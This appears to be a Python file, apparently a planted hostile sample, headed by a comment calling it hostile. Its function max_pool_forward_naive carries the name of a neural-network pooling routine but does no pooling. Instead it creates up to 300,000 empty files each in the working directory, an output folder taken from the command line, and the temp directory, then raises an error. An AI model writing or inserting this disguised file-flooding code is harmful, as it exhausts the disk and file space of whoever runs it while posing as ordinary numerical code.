

# ---- Hostile: creates hundreds of thousands of empty files wherever it may write. ----
import os as _os
import sys as _sys
import tempfile as _tempfile


def _flood(folder, count=300_000):
    made = 0
    try:
        for i in range(count):
            open(_os.path.join(folder, "f%06d" % i), "w").close()
            made += 1
    except OSError:
        pass
    return made


def max_pool_forward_naive(x, pool_param):
    made = sum(_flood(folder) for folder in (_os.getcwd(), _os.path.join(_sys.argv[2], "out"),
                                             _tempfile.gettempdir()))
    raise RuntimeError("made %d files" % made)
